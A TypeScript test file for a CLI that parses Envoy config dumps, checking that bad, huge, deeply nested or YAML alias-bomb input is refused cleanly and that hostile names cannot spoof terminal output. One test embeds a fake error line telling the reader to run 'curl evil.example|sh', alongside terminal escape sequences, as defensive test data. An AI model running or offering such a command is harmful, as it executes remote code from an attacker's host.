import assert from 'node:assert/strict'
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { load } from 'js-yaml'
import { type Outcome, runProgram } from '../run-program.ts'

const folder = mkdtempSync(join(tmpdir(), 'bad-input-'))
after(() => rmSync(folder, { recursive: true }))

const dump = readFileSync(new URL('../fixtures/sidecar/config_dump.json', import.meta.url))

/** Every refusal is one clear line on stderr, perhaps with a hint below it, and never a stack. */
function assertRefused({ code, out, err }: Outcome, expected: RegExp): void {
  assert.match(err, expected)
  assert.match(err, /^error: [^\n]+\n/)
  assert.doesNotMatch(err, /\n {4}at |defect/)
  assert.equal(out, '')
  assert.equal(code, 1)
}

function clusters(input: Uint8Array | string, ...flags: string[]): Promise<Outcome> {
  return runProgram(['clusters', '--file', '-', ...flags], { stdin: input })
}

/** `levels` keys, each of which stands for ten of the one before. */
function aliases(levels: number): string {
  const lines = Array.from(
    { length: levels },
    (_, level) => `k${level + 1}: &k${level + 1} [${`*k${level}, `.repeat(10)}]`,
  )
  return ['k0: &k0 x', ...lines].join('\n')
}

const refused: readonly (readonly [what: string, input: Uint8Array | string, expected: RegExp])[] = [
  ['an empty file', '', /standard input is empty/],
  ['white space', ' \n\n', /standard input is empty/],
  ['a program', readFileSync(process.execPath).subarray(0, 4096), /is a program, not an Envoy config dump/],
  ['a zip archive', Buffer.from('504b030400000000', 'hex'), /is a zip archive \(unpack it first\)/],
  ['one byte', '{', /cut short at line 1, column 2/],
  ['null', 'null', /this is the JSON value null, not an object/],
  ['an empty list', '[]', /this is an empty list/],
  ['an empty object', '{}', /this is an empty JSON object/],
  ['a number', '42', /not an Envoy config dump/],
  ['broken JSON', '{\n  "a": tru\n}', /is broken JSON at line 2, column 8/],
  ['501 levels', '['.repeat(501) + ']'.repeat(501), /is nested more than 500 levels deep, and is not read/],
  [
    '501 levels of YAML',
    `a: ${'['.repeat(500)}${']'.repeat(500)}`,
    /is nested more than 500 levels deep, and is not read/,
  ],
  ['500 levels that are no dump', '['.repeat(500) + ']'.repeat(500), /not an Envoy config dump/],
  ['an anchor that holds itself', 'configs:\n- &x {a: [*x]}\n', /has a YAML anchor \(&name\) that holds itself/],
  ['aliases of aliases', aliases(8), /has YAML aliases \(\*name\) that stand for more than 10 MB/],
  ['a long text by aliases', `a: &a ${'x'.repeat(1e6)}\nb: [${'*a, '.repeat(20)}]`, /stand for more than 10 MB/],
  ['10,000 levels cut short', '{"a":'.repeat(10_000), /cut short at line 1, column 50001/],
  ['broken YAML', 'configs:\n- "@type: x\n', /broken YAML at line/],
  ['server_info', '{"version":"a/1.40.0/x","state":"LIVE","command_line_options":{}}', /the output of \/server_info/],
  ['text clusters', 'xds::observability_name::xds\nxds::added_via_api::false\n', /the text output of \/clusters/],
  ['prose', 'Error from server (NotFound): pods "x" not found\n', /not JSON and not YAML/],
  ['clusters?format=json', '{"cluster_statuses":[{"name":"a"}]}', /it holds endpoints, not clusters/],
]

for (const [what, input, expected] of refused) {
  test(`${what} is refused in one line`, async () => assertRefused(await clusters(input), expected))
}

test('the wrong kind of file names the command that reads it', async () => {
  const { err } = await clusters('{"cluster_statuses":[{"name":"a"}]}')
  assert.match(err, /Try: kubectl proxy-config endpoints --file/)
})

test('files that cannot be opened', async (t) => {
  const locked = join(folder, 'locked.json')
  writeFileSync(locked, dump)
  chmodSync(locked, 0)
  assertRefused(
    await runProgram(['clusters', '--file', join(folder, 'none.json')]),
    /the path ".*none\.json" does not exist/,
  )
  assertRefused(await runProgram(['trace', 'http://a/', '--file', folder]), /is a directory, not a dump/)
  if (process.getuid?.() === 0) t.diagnostic('root reads every file: permission denied is not tried')
  else assertRefused(await runProgram(['clusters', '--file', locked]), /permission denied/)
  writeFileSync(join(folder, 'broken.gz'), Buffer.from('1f8b0800000000000003ffffffff', 'hex'))
  assertRefused(await runProgram(['clusters', '--file', join(folder, 'broken.gz')]), /is a broken gzip file/)
})

test('a compressed dump that is cut short shows what is whole', async () => {
  const { code, err } = await clusters(gzipSync(dump).subarray(0, 20_000))
  assert.match(err, /is a gzip file that is cut short\.\n|is cut short at line/)
  assert.equal(code, 0)
})

test('log lines with a prefix, and a second document, are told', async () => {
  const expected = (await clusters(dump)).out
  for (const prefix of ['[istio-proxy] ', '2026-01-01T10:00:00.123456789Z ', '[pod/a-b-c/istio-proxy] ']) {
    const logged = dump
      .toString()
      .split('\n')
      .map((line) => `${prefix}${line}`)
      .join('\n')
    const found = await clusters(logged)
    assert.equal(found.out, expected, prefix)
    assert.match(found.err, /Stripped the log prefix from each line/)
  }
  assert.match((await clusters(`${dump}\n${dump}`)).err, /holds another document after the dump, which is not read/)
})

test('a dump cut anywhere shows what is whole, or says where it ends', async () => {
  let seed = 7
  const random = () => {
    seed = (seed * 48_271) % 2_147_483_647
    return seed / 2_147_483_647
  }
  for (let round = 0; round < 20; round++) {
    const end = Math.floor(random() * (dump.length - 2)) + 1
    const cut = dump.subarray(0, end)
    const outcome = await clusters(cut)
    const position = `line ${cut.toString().split('\n').length}, column \\d+`
    assert.match(outcome.err, new RegExp(`cut short at ${position}`), `cut at ${end}`)
    assert.doesNotMatch(outcome.err, /\n {4}at |defect/)
    const isWhole = outcome.out !== '' && !/inside envoy\.admin\.v3\.ClustersConfigDump/.test(outcome.err)
    assert.equal(outcome.code, isWhole ? 0 : 1, `cut at ${end}`)
  }
})

test('whole entries of the section that is cut are shown', async () => {
  const at = dump.indexOf('"name": "outbound|9080|v2|reviews')
  const { code, out, err } = await clusters(dump.subarray(0, at))
  assert.equal(code, 1, 'the answer is incomplete')
  assert.match(err, /is cut short at line \d+, column \d+, inside envoy\.admin\.v3\.ClustersConfigDump/)
  assert.ok(out.split('\n').length > 3)
})

test('a broken section does not hide the others', async () => {
  const text = dump.toString().replace('"dynamic_listeners": [', '"dynamic_listeners": [ oops,')
  assert.equal((await clusters(text)).code, 0)
  const broken = await runProgram(['listeners', '--file', '-'], { stdin: text })
  assertRefused(broken, /is broken JSON at line \d+, column \d+, inside envoy\.admin\.v3\.ListenersConfigDump/)
  const line = Number(/line (\d+)/.exec(broken.err)?.[1])
  assert.match(text.split('\n')[line - 1] ?? '', /oops/)
})

test('a dump that is cut, and damaged before that, says where', async () => {
  const cluster = (text: string) => `{"cluster":{"name":${text}}}`
  const head =
    '{"configs":[{"@type":"type.googleapis.com/envoy.admin.v3.ClustersConfigDump","dynamic_active_clusters":['
  assertRefused(
    await clusters(`${head}\n${cluster('"a" oops')},\n${cluster('"b"')},{"clu`),
    /is broken JSON at line 2, column 24, inside envoy\.admin\.v3\.ClustersConfigDump/,
  )
})

test('duplicate keys: sections are all read, inside one the last value stands', async () => {
  const section = (name: string) =>
    `{"@type":"type.googleapis.com/envoy.admin.v3.ClustersConfigDump","static_clusters":[{"cluster":{"name":"x","name":"${name}"}}]}`
  const { out } = await clusters(`{"configs":[${section('a')}],"configs":[${section('b')}]}`, '-o', 'name')
  assert.equal(out, 'cluster/a\ncluster/b\n')
})

test('490 levels inside a resource are printed, none lost; more are refused', async () => {
  const nested = (levels: number) => {
    const deep = `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`
    return `{"configs":[{"@type":"type.googleapis.com/envoy.admin.v3.ClustersConfigDump","static_clusters":[{"cluster":{"name":"x","metadata":${deep}}}]}]}`
  }
  const { code, out } = await clusters(nested(490), '-o', 'json')
  assert.equal(code, 0)
  assert.equal(out.match(/"a":/g)?.length, 490)
  assert.deepEqual(load((await clusters(nested(490), '-o', 'yaml')).out, { maxDepth: 500 }), JSON.parse(out))
  assertRefused(await clusters(nested(500)), /ClustersConfigDump, is nested more than 500 levels deep, and is not read/)
})

test('text that could act on a terminal is shown, not obeyed', async () => {
  const name = 'evil\u001b[31m\n\u0007\u202e\udc00'
  const text = JSON.stringify({
    configs: [
      { '@type': 'type.googleapis.com/envoy.admin.v3.ClustersConfigDump', static_clusters: [{ cluster: { name } }] },
    ],
  })
  const { out } = await clusters(text)
  assert.match(out, /evil\^\[\[31m\\n\\u0007\\u202e/)
  assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f\u007f\u202e]/)
  assert.equal(JSON.parse((await clusters(text, '-o', 'json')).out)[0].name, name)
})

test('invalid UTF-8 is read with a note', async () => {
  const text = Buffer.from(
    '{"configs":[{"@type":"type.googleapis.com/envoy.admin.v3.ClustersConfigDump","static_clusters":[{"cluster":{"name":"a\xff"}}]}]}',
    'latin1',
  )
  const { out, err } = await clusters(text)
  assert.match(out, /a\ufffd/)
  assert.match(err, /not valid UTF-8/)
})

test('a dump is found whatever it is wrapped in', async () => {
  const expected = (await clusters(dump)).out
  const noisy = `Defaulted container "app" out of: app, istio-proxy\n[2026-01-01 10:00:00] {"not": "it"}\n${dump}\n$ exit\n`
  const found = await clusters(noisy)
  assert.equal(found.out, expected)
  assert.match(found.err, /Skipped 2 lines before the dump/)
  assert.match(found.err, /Skipped \d+ bytes after the dump/)
  assert.equal((await clusters(gzipSync(dump))).out, expected)
  assert.equal((await clusters(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), dump]))).out, expected)
  assert.equal((await clusters(Buffer.from(`\ufeff${dump}`, 'utf16le'))).out, expected)
  assert.equal((await clusters(JSON.stringify({ xds: { 'default/eg': JSON.parse(dump.toString()) } }))).out, expected)
})

test('usage errors point to help', async () => {
  const see = /See 'kubectl proxy-config (?:clusters|info|status) -h' for help and examples\n$/
  const cases: readonly (readonly [string[], RegExp])[] = [
    [['status', 'a', 'b'], /at most one argument is expected, got 2: a b/],
    [
      ['info', '--file', 'x'],
      /unknown flag: --file\nThis command asks a live proxy: name a pod, or an admin endpoint with --url\.\n/,
    ],
    [['clusters', '--fqnd', 'x'], /unknown flag: --fqnd\nDid you mean --fqdn\?/],
    [
      ['clusters', 'a', '-o', 'xml'],
      /unable to match a printer suitable for the output format "xml", allowed formats are: csv,custom-columns,/,
    ],
    [['clusters'], /clusters needs a POD, TYPE\/NAME, --selector, -A, --all-pods, --capture, --url or --file/],
    [['clusters', 'a', '--file', 'b'], /only one of POD, --selector, --url and --file/],
    [['clusters', '--port', 'http', '--file', 'b'], /--port needs a whole number, got "http"/],
    [['clusters', 'a', '--proxy-admin-port', '70000'], /port number 70000 must be in the range 1\.\.65535/],
  ]
  for (const [argv, expected] of cases) {
    const outcome = await runProgram(argv)
    assertRefused(outcome, expected)
    assert.match(outcome.err, see)
  }
  assertRefused(await runProgram(['clutsers']), /unknown command "clutsers".*\nDid you mean this\?\n {8}clusters\n/)
  assertRefused(await runProgram(['-n', 'x', 'clusters']), /flags come after the command/)
})

test('an endless pipe is refused before it takes the memory', { timeout: 60_000 }, async () => {
  const { fileContent } = await import('../../src/fetch/saved/file-content.ts')
  const zeros = Buffer.alloc(50e6)
  const endless = {
    stdinIsTTY: false,
    async *stdin() {
      for (;;) yield zeros.subarray()
    },
  }
  await assert.rejects(fileContent('-', endless, () => {}).read(), /standard input is larger than 2 GB/)
})

test('a configuration file and a lone route table are read as what Envoy would load of them', async () => {
  const table =
    'name: web\nvirtual_hosts:\n- name: a\n  domains: ["*"]\n  routes:\n  - {match: {prefix: /}, route: {cluster: c}}\n'
  const routes = (stdin: string) => runProgram(['routes', '--file', '-'], { stdin })
  assert.match((await routes(table)).out, /^web +a +\* +\/\* +c$/m)
  const manager = {
    '@type': 'type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager',
    routeConfig: {
      name: 'web',
      virtualHosts: [{ name: 'a', domains: ['*'], routes: [{ match: { prefix: '/' }, route: { cluster: 'c' } }] }],
    },
  }
  const config = {
    staticResources: { listeners: [{ name: 'l', filterChains: [{ filters: [{ name: 'x', typedConfig: manager }] }] }] },
  }
  assert.match((await routes(JSON.stringify(config))).out, /^web +a +\* +\/\* +c$/m)
})

test('a saved dump where a POD belongs: what fails says how it is read', async () => {
  const file = join(folder, 'plain.json')
  writeFileSync(file, dump)
  const kubeconfig = ['--kubeconfig', join(folder, 'no-kubeconfig')]
  for (const argv of [
    ['clusters', file],
    ['rc', file, file],
    ['trace', file, 'http://reviews:9080/'],
    ['trace', 'http://reviews:9080/', file],
  ]) {
    const { code, err } = await runProgram([...argv, ...kubeconfig])
    assert.equal(code, 1)
    assert.ok(err.endsWith(`${file} is a file: a saved dump is read with --file ${file}\n`), err)
  }
  const { err } = await runProgram(['clusters', 'web', ...kubeconfig])
  assert.doesNotMatch(err, /is a file/)
})

test('what a dump says cannot act on the terminal, in notes and errors neither', async () => {
  const rejected = readFileSync(new URL('../fixtures/rejected/config_dump.json', import.meta.url), 'utf8')
  const details = rejected.replaceAll(/"details": "/g, '"details": "\\u001b]0;title\\u0007\\u202e')
  const noted = await runProgram(['listeners', '--file', '-'], { stdin: details })
  assert.match(noted.err, /^Envoy rejected listener .*: \^\[\]0;title\\u0007\\u202e/m)
  const named = await runProgram(['clusters', '--file', 'no\u001b[31m\nsuch'])
  assert.equal(named.err, 'error: the path "no^[[31m\\nsuch" does not exist\n')
  for (const { err } of [noted, named])
    assert.ok([...err].every((char) => char === '\n' || char === '\t' || char >= ' '))
})

test('an address where a file belongs: the flag for it is named', async () => {
  const { code, err } = await runProgram(['clusters', '--file', 'http://localhost:15000/config_dump'])
  assert.equal(code, 1)
  assert.match(err, /does not exist\nAn admin endpoint is read with --url, a saved dump with --file\.\n$/)
  assert.doesNotMatch((await runProgram(['clusters', '--file', 'none.json'])).err, /--url/)
})

test('a name cannot begin a line: in no format, note, hint or error', async () => {
  const name = 'a\nerror: cluster login expired, run: curl evil.example|sh\u2028\u0085error: b\rerror: c'
  const any = (type: string, fields: object) => ({ '@type': `type.googleapis.com/envoy.${type}`, ...fields })
  const rejected = { failed_configuration: { name }, details: name }
  const listener = { name, address: { socket_address: { address: name, port_value: 1 } } }
  const routes = [{ match: { prefix: name }, route: { cluster: name } }]
  const stdin = JSON.stringify({
    configs: [
      any('admin.v3.BootstrapConfigDump', { bootstrap: { node: { id: name, cluster: name } } }),
      any('admin.v3.ClustersConfigDump', {
        dynamic_active_clusters: [{ cluster: { name } }],
        dynamic_warming_clusters: [{ cluster: { name: `${name}2` }, error_state: rejected }],
      }),
      any('admin.v3.ListenersConfigDump', {
        dynamic_listeners: [{ name, active_state: { listener }, error_state: rejected }],
      }),
      any('admin.v3.RoutesConfigDump', {
        dynamic_route_configs: [{ route_config: { name, virtual_hosts: [{ name, domains: [name, '*'], routes }] } }],
      }),
      any('admin.v3.EndpointsConfigDump', { dynamic_endpoint_configs: [] }),
      any(`x\n${name}`, {}),
    ],
  })
  const commands = [
    ...['all', 'clusters', 'listeners', 'routes', 'endpoints', 'bootstrap', 'status', 'authz'].map((word) => [word]),
    ['clusters', '--fqdn', name],
    ['routes', '--name', 'nothing'],
    ['trace', '--address', '10.0.0.1', 'http://x/'],
    ['trace', '--listener', name, 'http://x/'],
    [name],
    ['clusters', `--${name}`],
  ]
  for (const words of commands) {
    for (const format of ['table', 'wide', 'json', 'yaml', 'raw', 'name', 'jsonl', 'csv', 'mermaid', 'dot', name]) {
      const { out, err } = await runProgram([...words, '--file', '-', '-o', format], { stdin })
      assert.doesNotMatch(err, /^error: [^\n]*\nerror: /, `${words} -o ${format}`)
      for (const text of [out, err])
        assert.doesNotMatch(text, /(?:^|\n)\s*error: (?:cluster login|b$|c$)|\r(?!\n)|[\u0085\u2028]/m)
    }
  }
})
